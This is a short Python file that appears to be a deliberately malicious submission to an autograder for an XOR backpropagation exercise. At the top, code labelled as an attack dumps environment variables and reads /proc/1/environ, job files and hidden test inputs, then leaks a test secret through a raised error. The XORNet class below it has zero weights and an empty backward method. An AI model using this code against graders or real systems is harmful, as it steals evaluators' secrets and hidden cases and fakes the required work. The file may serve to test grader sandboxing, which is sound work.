"""Attack: find the grader's secrets (its environment, the assignment file with hidden cases)
and show them in one's own output."""
import os

print("ENV", dict(os.environ))
for path in ("/proc/1/environ", "../job.json", "/in/inputs.npz", "../../xor.toml"):
    try:
        print("FILE", path, open(path, errors="replace").read()[:2000])
    except OSError:
        pass
raise RuntimeError("secrets: " + os.environ.get("BPH_TEST_SECRET", "none found"))
import numpy as np


class XORNet:
    """No backprop: the update leaves every weight as it is."""

    def __init__(self, n_in=2, n_hidden=4, n_out=1, seed=0, dtype=np.float64):
        self.w_hidden = np.zeros((n_in, n_hidden), dtype)
        self.b_hidden = np.zeros((1, n_hidden), dtype)
        self.w_out = np.zeros((n_hidden, n_out), dtype)
        self.b_out = np.zeros((1, n_out), dtype)

    def forward(self, X):
        h = 1 / (1 + np.exp(-(X @ self.w_hidden + self.b_hidden)))
        return 1 / (1 + np.exp(-(h @ self.w_out + self.b_out)))

    def backward(self, X, y, y_hat, lr):
        pass

